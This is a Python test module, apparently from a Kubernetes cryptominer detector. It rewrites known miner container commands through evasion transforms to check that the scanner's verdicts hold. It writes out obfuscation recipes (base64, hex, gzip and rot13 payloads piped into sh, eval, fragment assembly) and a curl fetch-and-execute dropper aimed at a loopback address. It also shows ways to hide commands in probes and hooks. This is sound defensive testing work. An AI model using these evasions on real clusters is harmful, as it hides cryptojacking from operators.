"""Evasion transforms over corpus cases: the same miner, said another way.

A :class:`Seed` is one container of a corpus case with a command: its argv, where it sits in
its workload, and the documents around it (the ConfigMaps, Secrets and volumes it reads). A
transform rewrites the seed's command the way campaigns rewrite theirs, without changing what
the container ends up running:

* **command** transforms (:data:`COMMAND`): rename the binary, re-encode the command (base64,
  hex through ``xxd`` or ``printf '\\x..'``, octal ``printf``, gzip over base64, ``rev``,
  ``tr`` rot13), assemble it from shell fragments, ``eval`` it, or fetch the binary first
  (a dropper from ``127.0.0.1``);
* **split** transforms (:data:`SPLIT`): spread it across ``command``/``args``, move its values
  into ``env`` (``$(VAR)``), or into a ConfigMap of the same input read through ``valueFrom``;
* **placement** transforms (:data:`PLACEMENT`): move it into an init container, a native
  sidecar, an exec liveness probe or a ``postStart`` hook of a container that only sleeps.

:func:`pairs` composes two of them in the order an author would (commands first, at most one
split, at most one placement, no split into ``command``/``args`` of a probe). Every transform
is a pure function of the variant; :func:`render` turns a variant back into the documents of
one input, which ``minerguard scan`` decides like any corpus case. The seed is rendered alone:
the pod's other containers and the seed's own probes and hooks are dropped (they would decide
the verdict whatever happens to the command), its volumes, ConfigMaps and Secrets are kept.

The property (``tests/unit/test_transforms.py``, ``bench/detection.py``): a malicious seed that
is denied stays denied under every transform and pair, and a benign seed that is allowed stays
allowed under the same ones. Malicious seeds run on a neutral image, so a known miner image
cannot carry them; benign seeds keep their own image (the transforms never change images).
"""

from __future__ import annotations

import base64
import copy
import gzip
import itertools
import re
import shlex
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from typing import Any

from minerguard import podspec
from minerguard.compiled_policy import CompiledPolicy
from tests import corpus

NEUTRAL_IMAGE = "docker.io/library/alpine:3.20"
"""The image a malicious seed runs on: one no signature names."""

RENAMED = "/usr/local/bin/worker"
"""The name the rename transform gives a binary: carries no signal of its own."""

DROPPER_URL = "http://127.0.0.1/x"
"""Where the dropper transform fetches from (loopback: nothing here is ever fetched for real)."""

SHELLS = frozenset({"sh", "bash", "ash", "dash", "zsh", "busybox"})
INTERPRETERS = frozenset({"python", "python3", "perl", "node", "ruby", "php"})
WRAPPERS = frozenset(
    {"timeout", "nice", "nohup", "env", "setsid", "taskset", "ionice", "stdbuf", "chroot", "exec"}
)
"""Programs whose name gives the rest of the argv its meaning: renaming them is not a rename."""
POSIX_SHELLS = frozenset({"sh", "ash", "dash"})
"""Shells whose ``-c`` script the transforms re-wrap: what they pipe into is ``sh``."""
_SENTINEL = re.compile("\x00([A-Z][A-Z0-9_]*)\x00")
_EXEC_ORIGINS = {"probe": ("livenessProbe",), "hook": ("lifecycle", "postStart")}
_HANDLERS = ("livenessProbe", "readinessProbe", "startupProbe", "lifecycle")


@dataclass(frozen=True)
class Seed:
    """One container of a case, with the command a transform starts from."""

    case: corpus.Case
    doc: int
    """Index of the workload among the case's documents."""
    field: str
    """``containers`` or ``initContainers``."""
    index: int
    argv: tuple[str, ...]
    image: str

    @property
    def name(self) -> str:
        """Case and container, as failures name them."""
        return f"{self.case.name}#{self.field}[{self.index}]"

    @property
    def references(self) -> bool:
        """Whether the argv uses ``$(VAR)`` expansion (only the kubelet resolves it)."""
        return "$(" in " ".join(self.argv)


@dataclass(frozen=True)
class Variant:
    """A seed's command after some transforms, and how it is to be placed."""

    argv: tuple[str, ...]
    env: tuple[tuple[str, str], ...] = ()
    """Literal env vars the argv refers to (``\\x00NAME\\x00`` placeholders)."""
    config: tuple[tuple[str, str], ...] = ()
    """Env vars read from a ConfigMap of the same input (``valueFrom``)."""
    split_args: bool = False
    placement: str = "container"
    applied: tuple[str, ...] = field(default_factory=tuple)
    references: bool = False

    @property
    def split(self) -> bool:
        """Whether a split transform was applied."""
        return bool(self.env or self.config or self.split_args)


Transform = Callable[[Variant], Variant | None]
"""A variant in, a variant out; None where the transform does not apply to it."""


def script(argv: Sequence[str]) -> str:
    """The ``sh`` text that runs ``argv``: the script of ``sh -c SCRIPT``, else the quoted argv.

    Only POSIX shells are unwrapped: a ``bash -c`` script may use bash syntax, so it is kept
    whole (``bash -c '...'``) and still runs under bash wherever it is piped.
    """
    if len(argv) == 3 and argv[0].rsplit("/", 1)[-1] in POSIX_SHELLS and argv[1] in ("-c", "-lc"):
        return argv[2]
    return shlex.join(argv)


def _shell(text: str) -> tuple[str, ...]:
    return ("sh", "-c", text)


def _is_plain(variant: Variant) -> bool:
    """An argv that runs a binary directly (not a shell script)."""
    return script(variant.argv) == shlex.join(variant.argv)


def _command(name: str, build: Callable[[Variant], tuple[str, ...] | None]) -> Transform:
    def apply(variant: Variant) -> Variant | None:
        if variant.split or variant.placement != "container":
            return None  # commands are rewritten before they are split or moved
        if variant.references and name not in ("rename", "dropper"):
            return None  # encoding would hide $(VAR) from the kubelet's expansion
        argv = build(variant)
        if argv is None:
            return None
        return replace(variant, argv=argv, applied=(*variant.applied, name))

    apply.__name__ = name
    return apply


def _rename(variant: Variant) -> tuple[str, ...] | None:
    program = variant.argv[0].rsplit("/", 1)[-1]
    if not _is_plain(variant) or program in SHELLS | INTERPRETERS | WRAPPERS:
        return None
    if all(_names_a_file_at_most(word) for word in variant.argv[1:]):
        # The name was all there was (no arguments, or only a config file the manifest does
        # not hold, as perfctl's `perfcc -c ~/.config/cron/config.json`): renamed, nothing is
        # left to recognise at admission; the node agent's content and behaviour layers are
        # what see such a miner.
        return None
    return (RENAMED, *variant.argv[1:])


def _names_a_file_at_most(word: str) -> bool:
    """An option flag alone, or a file path (``-c``, ``/etc/x.json``, ``--config=/x.json``)."""
    value = word.partition("=")[2] if word.startswith("--") and "=" in word else word
    return (value.startswith("-") and "=" not in value) or value.startswith("/")


def _base64(variant: Variant) -> tuple[str, ...]:
    encoded = base64.b64encode(script(variant.argv).encode()).decode()
    return _shell(f"echo {encoded} | base64 -d | sh")


def _hex(variant: Variant) -> tuple[str, ...]:
    return _shell(f"echo {script(variant.argv).encode().hex()} | xxd -r -p | sh")


def _hex_printf(variant: Variant) -> tuple[str, ...]:
    escaped = "".join(f"\\x{byte:02x}" for byte in script(variant.argv).encode())
    return ("bash", "-c", f"printf '{escaped}' | bash")


def _octal_printf(variant: Variant) -> tuple[str, ...]:
    escaped = "".join(f"\\{byte:03o}" for byte in script(variant.argv).encode())
    return _shell(f"printf '{escaped}' | sh")


def _gzip_base64(variant: Variant) -> tuple[str, ...]:
    packed = gzip.compress(script(variant.argv).encode(), mtime=0)
    return _shell(f"echo {base64.b64encode(packed).decode()} | base64 -d | gunzip | sh")


def _rev(variant: Variant) -> tuple[str, ...]:
    reversed_lines = "\n".join(line[::-1] for line in script(variant.argv).split("\n"))
    return _shell(f"printf '%s\\n' {shlex.quote(reversed_lines)} | rev | sh")


_ROT13 = str.maketrans(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
    "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm",
)


def _rot13(variant: Variant) -> tuple[str, ...]:
    rotated = script(variant.argv).translate(_ROT13)
    return _shell(f"printf '%s\\n' {shlex.quote(rotated)} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh")


def _fragments(variant: Variant) -> tuple[str, ...]:
    """``a0=xm; b0=rig; ... "$a0$b0" ...``: every token cut in two, reassembled by the shell."""
    if _is_plain(variant):
        assignments, words = [], []
        for i, token in enumerate(variant.argv):
            cut = max(1, len(token) // 2)
            assignments += [f"a{i}={shlex.quote(token[:cut])}", f"b{i}={shlex.quote(token[cut:])}"]
            words.append(f'"$a{i}$b{i}"')
        return _shell("; ".join(assignments) + "; " + " ".join(words))
    text = script(variant.argv)
    third = max(1, len(text) // 3)
    parts = [text[:third], text[third : 2 * third], text[2 * third :]]
    assignments = [f"f{i}={shlex.quote(part)}" for i, part in enumerate(parts)]
    return _shell("; ".join(assignments) + '; sh -c "$f0$f1$f2"')


def _eval(variant: Variant) -> tuple[str, ...]:
    return _shell(f'c={shlex.quote(script(variant.argv))}; eval "$c"')


def _dropper(variant: Variant, url: str = DROPPER_URL) -> tuple[str, ...]:
    """Fetch the binary to the path it runs from, make it executable, run it as before."""
    if _is_plain(variant) and variant.argv[0].rsplit("/", 1)[-1] not in SHELLS:
        binary = variant.argv[0] if variant.argv[0].startswith("/") else f"/tmp/{variant.argv[0]}"
        run = shlex.join((binary, *variant.argv[1:]))
        binary_q = shlex.quote(binary)
        return _shell(f"curl -fsSL {url} -o {binary_q} && chmod +x {binary_q} && {run}")
    return _shell(f"curl -fsSL {url}.sh | sh; {script(variant.argv)}")


def dropper(url: str) -> Transform:
    """The dropper transform fetching from ``url`` (tests serve a stub there on loopback)."""
    return _command("dropper", lambda variant: _dropper(variant, url))


COMMAND: dict[str, Transform] = {
    "rename": _command("rename", _rename),
    "base64": _command("base64", _base64),
    "hex": _command("hex", _hex),
    "hex-printf": _command("hex-printf", _hex_printf),
    "octal-printf": _command("octal-printf", _octal_printf),
    "gzip-base64": _command("gzip-base64", _gzip_base64),
    "rev": _command("rev", _rev),
    "tr-rot13": _command("tr-rot13", _rot13),
    "fragments": _command("fragments", _fragments),
    "eval": _command("eval", _eval),
    "dropper": _command("dropper", _dropper),
}


def _values(argv: Sequence[str]) -> list[int]:
    """Indexes of the tokens that carry values: non-options after argv[0], and ``--opt=value``."""
    return [
        i
        for i, token in enumerate(argv)
        if i > 0 and token and (not token.startswith("-") or "=" in token)
    ]


def _split_values(variant: Variant, prefix: str) -> tuple[tuple[str, ...], list[tuple[str, str]]]:
    """Replace value tokens (or the whole script) by env var placeholders."""
    argv = list(variant.argv)
    moved: list[tuple[str, str]] = []
    if not _is_plain(variant):
        name = f"{prefix}SCRIPT"
        moved.append((name, script(argv)))
        return (argv[0], argv[1], f"\x00{name}\x00"), moved
    for n, i in enumerate(_values(argv)):
        name = f"{prefix}{n}"
        option, eq, value = argv[i].partition("=")
        if eq and argv[i].startswith("-"):
            moved.append((name, value))
            argv[i] = f"{option}=\x00{name}\x00"
        else:
            moved.append((name, argv[i]))
            argv[i] = f"\x00{name}\x00"
    return tuple(argv), moved


def _split(name: str) -> Transform:
    def apply(variant: Variant) -> Variant | None:
        if variant.split or variant.placement != "container" or variant.references:
            return None
        applied = (*variant.applied, name)
        if name == "split-args":
            return replace(variant, split_args=True, applied=applied)
        argv, moved = _split_values(variant, "V" if name == "split-env" else "C")
        if not moved:
            return None
        if name == "split-env":
            return replace(variant, argv=argv, env=tuple(moved), applied=applied)
        return replace(variant, argv=argv, config=tuple(moved), applied=applied)

    apply.__name__ = name
    return apply


SPLIT: dict[str, Transform] = {
    name: _split(name) for name in ("split-args", "split-env", "split-configmap")
}


def _place(name: str) -> Transform:
    def apply(variant: Variant) -> Variant | None:
        if variant.placement != "container":
            return None
        if name in _EXEC_ORIGINS and (variant.split_args or variant.references):
            return None  # an exec handler has one argv and no $(VAR) expansion
        return replace(variant, placement=name, applied=(*variant.applied, name))

    apply.__name__ = name
    return apply


PLACEMENT: dict[str, Transform] = {
    name: _place(name) for name in ("init", "sidecar", "probe", "hook")
}

TRANSFORMS: dict[str, Transform] = {**COMMAND, **SPLIT, **PLACEMENT}
"""Every transform, by name: the classes the property and the benchmark report on."""

SUPPORTED = frozenset(TRANSFORMS)
"""Transforms the engine is expected to see through: all of them (issue 12 lists each)."""

NEUTRAL = SUPPORTED - {"dropper"}
"""Transforms that add no evidence of their own: the benign side of the property.

A dropper is weighed as evidence by design (issue 12: "a dropper alone is not a miner; a
dropper plus any mining signal is"), so a look-alike that already carries one weak mining
signal (a pool's loopback test, a payment app's wallet) is rightly refused once wrapped in one.
Its benign column is still measured and printed, as calibration, not as a property.
"""


def pairs() -> Iterator[tuple[str, str]]:
    """Ordered pairs of different transforms, in an order an author could apply them."""
    order = {**dict.fromkeys(COMMAND, 0), **dict.fromkeys(SPLIT, 1), **dict.fromkeys(PLACEMENT, 2)}
    for first, second in itertools.permutations(TRANSFORMS, 2):
        if order[first] < order[second] or (order[first] == order[second] == 0):
            yield first, second


def apply(seed: Seed, names: Sequence[str]) -> Variant | None:
    """The seed's variant after the named transforms in order; None where one does not apply."""
    variant: Variant | None = Variant(seed.argv, references=seed.references)
    for name in names:
        if variant is None:
            return None
        variant = TRANSFORMS[name](variant)
    return variant


def _exec_script(argv: Sequence[str]) -> str:
    """``argv`` as shell text where placeholders become ``"$NAME"`` (the shell expands them)."""
    whole = _SENTINEL.fullmatch(argv[2]) if len(argv) == 3 else None
    if whole is not None and argv[1] in ("-c", "-lc"):
        return f'{shlex.quote(argv[0])} -c "${whole.group(1)}"'
    if any(_SENTINEL.search(token) for token in argv):
        words = []
        for token in argv:
            parts = _SENTINEL.split(token)  # literal, NAME, literal, NAME, ..., literal
            words.append(
                "".join(
                    f'"${part}"' if i % 2 else (shlex.quote(part) if part else "")
                    for i, part in enumerate(parts)
                )
            )
        return " ".join(words)
    return script(argv)


def exec_command(variant: Variant) -> list[str]:
    """The probe or hook command: the variant started in the background, so it never blocks."""
    return ["/bin/sh", "-c", f"nohup {_exec_wrap(variant)} >/dev/null 2>&1 &"]


def _exec_wrap(variant: Variant) -> str:
    text = _exec_script(variant.argv)
    return f"sh -c {shlex.quote(text)}"


def container_argv(variant: Variant) -> list[str]:
    """The argv as the pod declares it, with placeholders as ``$(NAME)`` (the kubelet expands)."""
    return [_SENTINEL.sub(r"$(\1)", token) for token in variant.argv]


def _pod_spec(doc: dict[str, Any]) -> dict[str, Any]:
    node: Any = doc
    for key in podspec.POD_TEMPLATE_PATHS[doc["kind"]]:
        node = node[key]
    spec: dict[str, Any] = node
    return spec


def render(seed: Seed, variant: Variant) -> list[dict[str, Any]]:
    """The documents of one input: the case with only the seed container, rewritten."""
    documents = [copy.deepcopy(dict(doc)) for doc in seed.case.documents]
    workload = documents[seed.doc]
    spec = _pod_spec(workload)
    original: dict[str, Any] = spec[seed.field][seed.index]
    # The seed alone: the other containers of the pod and the seed's own probes and hooks
    # would otherwise decide the verdict whatever happens to the seed's command.
    spec.pop("initContainers", None)
    spec["containers"] = []
    dropped = ("command", "args", "restartPolicy", *_HANDLERS)
    base = {k: v for k, v in original.items() if k not in dropped}
    base["image"] = seed.image
    env: list[Any] = list(base.get("env") or [])
    env += [{"name": name, "value": value} for name, value in variant.env]
    if variant.config:
        metadata = workload.get("metadata") or {}
        namespace = metadata.get("namespace", "default")
        config_name = f"{metadata.get('name') or 'workload'}-split"[:63]
        documents.insert(
            0,
            {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": {"name": config_name, "namespace": namespace},
                "data": dict(variant.config),
            },
        )
        env += [
            {
                "name": name,
                "valueFrom": {"configMapKeyRef": {"name": config_name, "key": name}},
            }
            for name, _ in variant.config
        ]
    if env:
        base["env"] = env
    argv = container_argv(variant)
    running = dict(base)
    if variant.split_args:
        cut = 2 if len(argv) >= 2 and argv[1] in ("-c", "-lc") and len(argv) > 2 else 1
        running["command"], running["args"] = argv[:cut], argv[cut:]
    else:
        running["command"] = argv
    if variant.placement == "container":
        spec.setdefault("containers", []).append(running)
    elif variant.placement in ("init", "sidecar"):
        if variant.placement == "sidecar":
            running["restartPolicy"] = "Always"
        spec.setdefault("initContainers", []).append(running)
        main = "main" if running.get("name") != "main" else "app"  # names are pod-unique
        spec.setdefault("containers", []).append(_sleeper(base, main))
    else:
        host = _sleeper(base, original.get("name", "app"))
        node = host
        *parents, last = _EXEC_ORIGINS[variant.placement]
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = {"exec": {"command": exec_command(variant)}}
        spec.setdefault("containers", []).append(host)
    return documents


def _sleeper(base: Mapping[str, Any], name: str) -> dict[str, Any]:
    """A container that only sleeps, with the seed's image, env, mounts and working directory.

    Exec probes and hooks run in the container's working directory, as its command does.
    """
    keep = ("image", "env", "envFrom", "volumeMounts", "workingDir", "resources", "securityContext")
    host = {"name": name, **{k: base[k] for k in keep if k in base}}
    host["command"] = ["/bin/sleep", "infinity"]
    return host


def seeds(case: corpus.Case, *, neutral_image: bool) -> list[Seed]:
    """The containers of a case that declare a command (built-in workload kinds only)."""
    found = []
    for doc_index, doc in enumerate(case.documents):
        if doc.get("kind") not in podspec.POD_TEMPLATE_PATHS:
            continue
        spec = _pod_spec(dict(doc))
        for field_name in ("initContainers", "containers"):
            for index, raw in enumerate(spec.get(field_name) or []):
                command = raw.get("command")
                if not isinstance(command, list) or not command:
                    continue
                argv = tuple(str(t) for t in [*command, *(raw.get("args") or [])])
                image = NEUTRAL_IMAGE if neutral_image else str(raw.get("image", ""))
                found.append(Seed(case, doc_index, field_name, index, argv, image))
    return found


def decide(seed: Seed, variant: Variant, policies: Sequence[CompiledPolicy]) -> corpus.Outcome:
    """``minerguard scan``'s verdict on the seed's case rewritten as ``variant``."""
    return corpus.decide(render(seed, variant), policies)


def property_seeds(
    cases: Sequence[corpus.Case], policies: Sequence[CompiledPolicy]
) -> tuple[tuple[Seed, ...], tuple[Seed, ...]]:
    """Malicious seeds denied as they are, and benign seeds allowed silently as they are."""
    detected, quiet = [], []
    for case in cases:
        for seed in seeds(case, neutral_image=case.malicious):
            outcome = decide(seed, Variant(seed.argv, references=seed.references), policies)
            if case.malicious and outcome.denied:
                detected.append(seed)
            elif not case.malicious and not outcome.flagged:
                quiet.append(seed)
    return tuple(detected), tuple(quiet)


def changed(
    names: Sequence[str],
    chosen: Sequence[Seed],
    *,
    malicious: bool,
    policies: Sequence[CompiledPolicy],
) -> tuple[int, list[str]]:
    """How many seeds the transforms apply to, and those whose verdict they change."""
    applied, flipped = 0, []
    for seed in chosen:
        variant = apply(seed, names)
        if variant is None:
            continue
        applied += 1
        outcome = decide(seed, variant, policies)
        if (not outcome.denied) if malicious else outcome.flagged:
            flipped.append(seed.name)
    return applied, flipped


def rotation(index: int, chosen: Sequence[Seed], count: int = 2) -> tuple[Seed, ...]:
    """``count`` seeds for the ``index``-th pair, spread over the corpus (deterministic)."""
    if not chosen:
        return ()
    picked = dict.fromkeys((index * 7 + j * 31) % len(chosen) for j in range(count))
    return tuple(chosen[i] for i in picked)
